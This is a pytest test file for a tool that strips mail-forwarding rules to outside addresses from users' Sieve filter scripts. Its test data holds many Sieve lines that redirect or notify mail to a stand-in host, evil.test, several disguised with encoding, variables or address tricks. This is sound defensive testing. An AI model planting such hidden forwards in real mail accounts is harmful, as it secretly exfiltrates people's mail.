"""What sends mail outside is found however it is written, and taken out with no other byte; Pigeonhole is the judge."""

import re

import pytest

from quell_email.domain.forwards import TURNED_OFF
from quell_email.sieve.disarming import included, judge, stand_in
from sieve_judge import SieveJudge

OURS = frozenset({"corp.test", "xn--bcher-kva.test"})
X = "x@evil.test"
EVERYTHING = (
    'require ["copy", "variables", "encoded-character", "enotify", "fileinto", "include", "imap4flags", "ihave", '
    '"foreverypart", "mime", "extracttext", "reject", "envelope", "body"];\n'
)


def text(script: str) -> bytes:
    """Return a script with the extensions that it may use."""
    return (EVERYTHING + script).encode()


EXACT = [
    '«redirect» «"x@evil.test"»«;»',
    '«redirect» «:copy» «"x@evil.test"»«;»',
    '«REDIRECT»\t«:Copy»«"x@evil.test"»  «;»',
    '«redirect» # whom?\r\n «"x@evil.test"» /* me */ «;» # end',
    "«redirect» «text: # hash\nx@evil.test\n.\n»«;»keep;",
    "«redirect» «text:\r\nx@evil.test\r\n.\r\n»«;»",
    '«redirect» «"\\x@evil.\\test"»«;»',
    '«redirect» «"x${hex:40}evil.test"»«;»',
    '«redirect» «"x${unicode:40}evil.te${HEX: 73 74}"»«;»',
    '«redirect» «"X <x@evil.test>"»«;»',
    '«redirect» «"\\"a b\\"@evil.test"»«;»',
    '«redirect» «"x@[192.0.2.1]"»«;»',
    '«redirect» «"x@sub.corp.test"»«;»',
    '«redirect» «"x@corp.test.evil.test"»«;»',
    '«redirect» «"x%evil.test@corp.test"»«;»',
    '«redirect» «"\\"x@evil.test\\"@corp.test"»«;»',
    'set "to" "x@evil.test"; «redirect» «"${to}"»«;»',
    'set :lower "To" "X@EVIL.test"; «redirect» «"${tO}"»«;»',
    'set "d" "evil"; set "to" "x@${d}.test"; «redirect» «"${to}"»«;»',
    'if header :matches "subject" "*" { «redirect» «"${1}@evil.test"»«;» }',
    'set "a" "x@evil.test"; «redirect» «"${a}"»«;» set "a" "b@corp.test"; redirect :copy "${a}";',
    'if true { set "a" "x@evil.test"; } else { set "a" "y@evil.test"; } «redirect» «"${a}"»«;»',
    'if false { } elsif allof (true, not anyof (false)) { if true { «redirect» «"x@evil.test"»«;» } stop; }',
    'foreverypart { if true { «redirect» «"x@evil.test"»«;» break; } }',
    'if ihave "copy" { «redirect» «:copy» «"x@evil.test"»«;» }',
    '«notify» «"mailto:x@evil.test"»«;»',
    '«notify» «:importance» «"1"» «:message» «"to: a@corp.test"» «"MAILTO:x%40evil.test?subject=hi"»«;»',
    '«notify» «"mailto:x@evil.test?c%63=y@evil.test,z@evil.test"»«;»',
    'redirect "a@corp.test"; «redirect» «"x@evil.test"»«;» fileinto "A";',
]
"""What has to go stands between « and »."""


def outside(addresses: frozenset[str]) -> set[str]:
    """Return those that are not plainly ours."""
    return {whom for whom in addresses if whom.rpartition("@")[2] != "corp.test" or "%" in whom or '"' in whom}


@pytest.mark.parametrize("marked", EXACT)
def test_an_external_forward_is_taken_out_and_nothing_else(judge_: SieveJudge, marked: str) -> None:
    """Its tokens go, every other byte stays; the server accepts what is left, which sends nothing out."""
    script, left = text(re.sub("[«»]", "", marked)), text(re.sub("«[^»]*»", "", marked))
    like = judge(script, OURS, instead=b"")
    assert (like.disarmed, like.whole) == (left, "")
    before, after = judge_.actions(script), judge_.actions(like.disarmed)
    went = outside(before.redirects | before.told)
    assert went, "control"
    assert len(went) <= len(like.outside)
    assert not outside(after.redirects | after.told)
    assert after.redirects == before.redirects - outside(before.redirects)
    assert after.folders


UNTOUCHED = [
    'redirect "a@corp.test";',
    'redirect :copy "A@CORP.TEST";',
    'redirect "Ann <a@corp.test>";',
    'redirect "a@b\u00fccher.test";',
    '# redirect "x@evil.test";\n/* redirect "x@evil.test"; */ keep;',
    'fileinto "redirect x@evil.test";',
    'set "a" "x@evil.test"; fileinto "${a}";',
    'if header :matches "from" "*@*" { redirect "${1}@corp.test"; }',
    'notify "mailto:a@corp.test?subject=x@evil.test&body=y@evil.test";',
    'set "x" text:\nredirect "x@evil.test";\n.\n; keep;',
]


@pytest.mark.parametrize("script", UNTOUCHED)
def test_what_sends_nothing_outside_stays_byte_by_byte(judge_: SieveJudge, script: str) -> None:
    """Forwards to our own addresses, and words that only look like forwards."""
    like = judge(text(script), OURS, instead=b"keep;")
    assert (like.disarmed, like.outside, like.whole) == (text(script), (), "")
    assert judge_.compiles(text(script))


UNCLEAR = [
    'if header :matches "x-to" "*" { redirect "${1}"; }',
    'if header :matches "x-to" "*" { redirect "me@${1}"; }',
    'if true { set "a" "x@evil.test"; } else { set "a" "b@corp.test"; } redirect "${a}";',
    'foreverypart { redirect "${to}"; extracttext "to"; }',
    'setflag "to" "x@evil.test"; redirect "${to}";',
    'global "to"; redirect "${to}";',
    'redirect "${global.to}";',
    'set :length "n" "abc"; redirect "x${n}";',
    'notify "mailto:a@corp.test,x@evil.test";',
    'notify "mailto:a@corp.test?cc=x@evil.test";',
    'set "h" "x"; if header :matches "subject" "*" { set "h" "${1}"; } notify "mailto:a@corp.test?subject=${h}";',
    'redirect :list "x@evil.test";',
    'redirect "x${hex:24}{to}";',
    'foo "x@evil.test";',
    "if foo { keep; }",
    'redirect "x@evil.test"',
    'redirect "x@evil.test;',
    'text:redirect "x@evil.test";',
    'redirect ["x@evil.test", "y@evil.test"];',
    '\u00e9 redirect "x@evil.test";',
    'redirect\r"x@evil.test";',
    'set "a${b}" "x";',
    "if true {" * 33 + 'redirect "x@evil.test";' + "}" * 33,
    "if not " + "not " * 40 + 'true { redirect "x@evil.test"; }',
    'include :global "fwd"; global "to";',
    "keep;" * 20_000 + 'redirect "x@evil.test";',
    "".join(f'set "v{number}" "x";' for number in range(100)) + "if true {}" * 2000 + 'redirect "x@evil.test";',
    "foreverypart {" * 4 + 'set "a" "${a}x"; break;' + "}" * 4 + 'redirect "b@${a}.test";',
]  # fmt: skip


@pytest.mark.parametrize("script", UNCLEAR)
def test_what_cant_be_changed_exactly_is_turned_off_as_a_whole(judge_: SieveJudge, script: str) -> None:
    """And mail is kept. The result says why, and what else the script did."""
    like = judge(text(f'fileinto "Lists";{script}'), OURS, instead=b"")
    assert like.disarmed == TURNED_OFF
    assert like.whole
    assert "" in like.outside
    assert judge_.actions(like.disarmed).folders == {"INBOX"}


@pytest.mark.parametrize("extension", ["vnd.dovecot.pipe", "vnd.dovecot.execute", "vnd.dovecot.filter", "x-own"])
def test_an_unknown_extension_makes_all_of_it_unclear(extension: str) -> None:
    """Its commands may send mail anywhere."""
    like = judge(f'require "{extension}";\n# rule:[Kept apart]\nkeep;'.encode(), OURS, instead=b"")
    assert like.whole.startswith("the extension")
    assert like.rules == ("Kept apart",)


def test_what_cant_be_read_and_has_no_word_that_forwards_is_left_alone() -> None:
    """A broken script is not run, and names no forward."""
    assert judge(b'fileinto "Lists', OURS, instead=b"").disarmed == b'fileinto "Lists'


@pytest.mark.parametrize(
    ("script", "rules"),
    [
        (b"## Flag: |UniqueId:1|Rulename: Work \n#" + b"#" * 5000 + b"\nfoo;", ("Work",)),
        (b'# rule:[Work]\nfileinto "A";\n# rule:[Home]\nfoo;', ("Work", "Home")),
        (b'require "fileinto"; if true { fileinto "A"; } redirect "a@corp.test"; foo;',
         ('fileinto "A"', 'redirect "a@corp.test"', "foo")),
        (b"foo" + b'"a' * 3000 + b";redirect", ()),
    ],
)  # fmt: skip
def test_the_rules_that_stand_still_are_named(script: bytes, rules: tuple[str, ...]) -> None:
    """By the names that their users gave them, else by what they do."""
    like = judge(script, OURS, instead=b"")
    assert like.whole
    assert like.rules == rules


def test_the_old_notify_is_a_forward(judge_: SieveJudge) -> None:
    """It names whom to tell among its options."""
    script = b'require "notify"; notify :method "mailto" :options ["x@evil.test"] :message "m"; keep;'
    assert judge_.actions(script).told == {X}
    like = judge(script, OURS, instead=b"")
    assert (like.outside, like.whole) == ((X,), "")
    assert judge_.actions(like.disarmed).told == frozenset()


def test_a_report_is_a_forward(judge_: SieveJudge) -> None:
    """Its last argument gets the message."""
    script = b'require "vnd.dovecot.report"; report :headers_only "abuse" "hello" "x@evil.test"; keep;'
    assert judge_.actions(script).told == {X}
    like = judge(script, OURS, instead=b"")
    assert (like.outside, like.whole) == ((X,), "")
    assert judge_.actions(like.disarmed).told == frozenset()


@pytest.mark.parametrize(
    ("script", "folders"),
    [
        ('redirect "x@evil.test";', {"INBOX"}),
        ('redirect "x@evil.test"; discard;', {"INBOX"}),
        ('redirect "x@evil.test"; fileinto "A";', {"A"}),
        ('redirect :copy "x@evil.test"; discard;', set()),
        ('redirect "x@evil.test"; redirect "a@corp.test";', set()),
    ],
)
def test_mail_that_only_the_forward_kept_is_kept(judge_: SieveJudge, script: str, folders: set[str]) -> None:
    """Also where a rule throws it away; and no second copy comes where something else keeps it."""
    like = judge(text(script), OURS, instead=stand_in([text(script)]))
    assert judge_.actions(like.disarmed).folders == folders


def test_mail_is_kept_where_another_script_throws_it_away(judge_: SieveJudge) -> None:
    """The script that includes the one with the forward, say; without that word mail would be lost."""
    forward, outer = text('redirect "x@evil.test";'), text('include :personal "forward"; discard;')
    instead = stand_in([forward, outer])
    judge_.include("forward", forward)
    assert judge_.actions(outer).redirects == {X}
    judge_.include("forward", judge(forward, OURS, instead=instead).disarmed)
    assert judge_.actions(outer).folders == {"INBOX"}
    judge_.include("forward", judge(forward, OURS, instead=b"").disarmed)
    assert judge_.actions(outer).folders == set(), "control"


def test_included_scripts_are_named() -> None:
    """The user's own only."""
    assert included(
        b'require "include"; include "a"; if true { include :personal :once "b"; } include :global "c";'
    ) == {
        "a",
        "b",
    }
    assert included(b"include") == frozenset()
